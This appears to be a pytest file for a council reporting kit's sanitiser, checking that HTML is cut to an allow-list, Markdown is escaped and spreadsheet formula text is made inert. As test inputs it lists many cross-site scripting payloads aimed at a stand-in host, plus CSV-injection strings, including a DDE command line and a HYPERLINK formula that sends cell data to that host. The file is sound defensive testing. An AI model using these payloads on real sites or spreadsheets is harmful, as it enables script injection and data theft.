"""Text from input is data: HTML cleaned to an allow-list, Markdown escaped, no live formula (OWASP CSV injection)."""

import io

import pandas as pd
import pytest
from bs4 import BeautifulSoup
from openpyxl import Workbook, load_workbook

from cpkit.present.sanitise import (
    clean_commentary_html,
    clean_page_html,
    escape_markdown,
    no_formulas,
    plain_text,
    safe_cell,
    safe_frame,
)


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
    ],
)
def test_formula_text_is_quoted(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Recruit 10 foster carers", "5.10", -3, 2.5, None, ""])
def test_ordinary_values_unchanged(value):
    assert safe_cell(value) == value


# ---- HTML: what a page may hold --------------------------------------------------------------------------

PNG = "data:image/png;base64,iVBORw0KGgo="


def _soup(fragment: str) -> BeautifulSoup:
    return BeautifulSoup(fragment, "html.parser")


def assert_inert(fragment: str) -> None:
    """Nothing in ``fragment`` runs or is fetched: no script, frame, style, event handler, javascript:
    link or image other than an embedded one."""
    soup = _soup(fragment)
    live = ("script", "iframe", "frame", "object", "embed", "style", "link", "meta", "base", "form")
    svg_live = ("use", "image", "foreignobject", "animate", "set", "text")
    for tag in live + svg_live:
        assert soup.find(tag) is None, f"<{tag}> survived: {fragment}"
    for tag in soup.find_all(True):
        for attribute, value in tag.attrs.items():
            assert not attribute.lower().startswith("on"), f"event handler {attribute} survived"
            assert attribute.lower() not in ("style", "srcset", "formaction", "background", "poster")
            if attribute in ("href", "src"):
                assert not str(value).strip().lower().startswith(("javascript:", "vbscript:", "http:", "//"))
            assert "url(" not in str(value).lower() and "evil.example" not in str(value)
    for img in soup.find_all("img"):
        assert img.get("src") is None or img["src"].startswith("data:image/png;base64,")


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        '<img src="https://evil.example/pixel.png" alt="tracking pixel">',
        '<img src="x" onerror="alert(1)">',
        '<a href="javascript:alert(1)">click</a>',
        '<a href=" JaVaScRiPt:alert(1)">click</a>',
        '<a href="data:text/html,<script>alert(1)</script>">click</a>',
        '<a href="//evil.example/">protocol-relative</a>',
        '<iframe src="https://evil.example/"></iframe>',
        '<p style="background:url(https://evil.example/x.png)" onmouseover="alert(1)">p</p>',
        '<link rel="stylesheet" href="https://evil.example/x.css">',
        "<style>@import url(https://evil.example/x.css);</style>",
        '<svg onload="alert(1)"><circle r="4"/></svg>',
        '<svg><use href="https://evil.example/s.svg#a"/><image href="https://evil.example/i.png"/></svg>',
        '<svg><circle r="4" fill="url(https://evil.example/p.svg#g)"/><a href="javascript:alert(1)"><text>x</text></a></svg>',
        '<svg><animate attributeName="href" to="javascript:alert(1)"/><foreignObject><iframe src="https://evil.example/"></iframe></foreignObject></svg>',
        '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
        '<form action="https://evil.example/"><input name="q"></form>',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        '<base href="https://evil.example/">',
        "<scr<script>ipt>alert(1)</script>",
        "<!--<script>alert(1)</script>-->",
    ],
)
def test_page_html_keeps_nothing_live(attack):
    cleaned = clean_page_html(f"<p>before</p>{attack}<p>after</p>")
    assert_inert(cleaned)
    assert "before" in cleaned and "after" in cleaned


def test_page_html_keeps_the_kits_own_markup():
    # A table, a chart with its embedded image, an appendix section and links within the report: the
    # tags and attributes the kit writes (cpkit.present.tables/charts, cpkit.report.site) all survive.
    fragment = (
        '<div class="cp-table"><table><caption>Children in care</caption><thead><tr><th scope="col">Month'
        '</th><th scope="col">Count</th></tr></thead><tbody><tr><th scope="row" class="rag rag-delayed">'
        "April</th><td>&lt;5</td></tr></tbody></table></div>"
        f'<figure class="cp-figure"><img src="{PNG}" alt="Bar chart: b is twice a" /><figcaption>F'
        "</figcaption></figure>"
        '<section class="cp-appendix" aria-labelledby="plan"><h2 id="plan">Action plan</h2></section>'
        '<p><a href="01_children_in_care.html">Children in care</a> and '
        '<a href="https://www.gov.uk/government/collections/statistics-looked-after-children">DfE</a></p>'
    )
    soup = _soup(clean_page_html(fragment))
    assert soup.find("th", scope="row")["class"] == ["rag", "rag-delayed"]
    assert soup.find("td").get_text() == "<5"
    assert soup.find("img")["src"] == PNG and soup.find("img")["alt"] == "Bar chart: b is twice a"
    assert soup.find("section")["aria-labelledby"] == "plan" and soup.find("h2")["id"] == "plan"
    links = {a.get_text(): a for a in soup.find_all("a")}
    assert links["Children in care"]["href"] == "01_children_in_care.html"
    assert links["DfE"]["href"].startswith("https://www.gov.uk/")
    assert links["DfE"]["rel"] == ["noopener", "noreferrer"]


def test_page_html_keeps_a_sparkline():
    # The Performance on a Page draws its trends as small inline SVGs with a text alternative.
    spark = (
        '<svg class="cp-spark" role="img" aria-label="Children in care, last eight quarters: 40, 42" '
        'width="80" height="18" viewBox="0 0 80 18"><title>Children in care</title>'
        '<polyline points="2.0,16.0 78.0,2.0" fill="none" stroke="#12436D" stroke-width="1.5"/>'
        '<circle cx="78.0" cy="2.0" r="2" fill="#12436D"/></svg>'
    )
    soup = _soup(clean_page_html(f"<table><tr><td>{spark}</td></tr></table>"))
    svg = soup.find("svg")
    assert svg["aria-label"].startswith("Children in care") and svg["role"] == "img"
    assert svg.get("viewBox", svg.get("viewbox")) == "0 0 80 18"
    assert soup.find("polyline")["points"] == "2.0,16.0 78.0,2.0" and soup.find("circle")["fill"] == "#12436D"


def test_commentary_keeps_https_links_and_drops_every_image():
    cleaned = clean_commentary_html(
        '<p>See <a href="https://www.gov.uk/x">the guidance</a>.</p>'
        f'<p><img src="{PNG}" alt="embedded"><img src="https://evil.example/p.png" alt="remote"></p>'
        '<p><a href="http://example.org/">plain http</a> <a href="mailto:lead@council.example">mail</a></p>'
    )
    soup = _soup(cleaned)
    assert soup.find("img") is None
    hrefs = {a.get_text(): a.get("href") for a in soup.find_all("a")}
    assert hrefs == {
        "the guidance": "https://www.gov.uk/x",
        "plain http": None,  # not https: the text stays, the link goes
        "mail": "mailto:lead@council.example",
    }


@pytest.mark.parametrize(
    ("decoded", "plain"),
    [
        # what BeautifulSoup's get_text gives for "&lt;script&gt;alert(1)&lt;/script&gt; Recruit carers"
        ("<script>alert(1)</script> Recruit carers", " Recruit carers"),
        ("<img src=x onerror=alert(1)>Review", "Review"),
        ("<b>Bold</b> words", "Bold words"),
        ("Fewer than 5 < 10 and <5", "Fewer than 5 < 10 and <5"),  # not markup: kept as written
        ("Tom & Jerry", "Tom & Jerry"),
        # one more level of entities: the result is text that shows "<script>", never a tag
        ("&lt;script&gt;x&lt;/script&gt;", "&lt;script&gt;x&lt;/script&gt;"),
    ],
)
def test_plain_text_strips_markup_that_decoding_made(decoded, plain):
    assert plain_text(decoded) == plain


# ---- spreadsheets ---------------------------------------------------------------------------------------


def test_safe_frame_quotes_formula_text_in_every_text_column_and_leaves_numbers():
    frame = pd.DataFrame(
        {"file": ["=cmd|' /C calc'!A0", "episodes.csv"], "row": [2, -3], "message": ["ok", "@SUM(A1)"]}
    )
    out = safe_frame(frame)
    assert out["file"].tolist() == ["'=cmd|' /C calc'!A0", "episodes.csv"]
    assert out["row"].tolist() == [2, -3]
    assert out["message"].tolist() == ["ok", "'@SUM(A1)"]
    assert frame["file"][0].startswith("=")  # the caller's frame is not changed


def test_no_formulas_stores_formula_looking_text_as_text():
    wb = Workbook()
    ws = wb.active
    attack = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
    ws["A1"] = attack
    ws["A2"] = "-2+3"
    ws["A3"] = 42
    buffer = io.BytesIO()
    no_formulas(wb).save(buffer)
    back = load_workbook(io.BytesIO(buffer.getvalue())).active
    assert back["A1"].value == attack and back["A1"].data_type == "s"
    assert back["A2"].value == "-2+3" and back["A2"].data_type == "s"
    assert back["A3"].value == 42 and back["A3"].data_type == "n"
    assert back["A1"].quotePrefix  # Excel shows it as text, and keeps it text when edited


@pytest.mark.parametrize(
    "text",
    [
        "Offer passes [details](https://evil.example/phish) and ![pixel](https://evil.example/p.png)",
        "**Urgent** _now_ <b>bold</b> `code` # not a heading",
        "1. not a list item; see www.example.org or lead@council.example at 10:30",
        "a & b &lt;script&gt; C:\\folder | pipe ~ tilde",
    ],
)
def test_escaped_tracker_text_reads_as_written_in_markdown(text):
    # The narrative is Markdown: tracker words put into it must come out as the same words, with no
    # link, image, emphasis or tag made of them.
    from nbconvert.filters.markdown_mistune import markdown2html_mistune

    soup = _soup(markdown2html_mistune(escape_markdown(text)))
    assert soup.get_text().strip() == text
    assert soup.find(["a", "img", "strong", "em", "b", "code", "h1", "ol", "script"]) is None


def test_a_wide_tables_box_stays_reachable_by_keyboard_but_nothing_jumps_the_tab_order():
    # a table wider than the page scrolls in its box: tabindex="0" lets a keyboard user reach and scroll it
    # (axe-core's scrollable-region-focusable); a positive tabindex would reorder the page, so it goes
    from cpkit.present.sanitise import clean_page_html

    kept = clean_page_html('<div class="cp-table" tabindex="0"><table><tr><td>1</td></tr></table></div>')
    assert 'tabindex="0"' in kept
    assert "tabindex" not in clean_page_html('<div tabindex="3">x</div><p tabindex="0">y</p>')
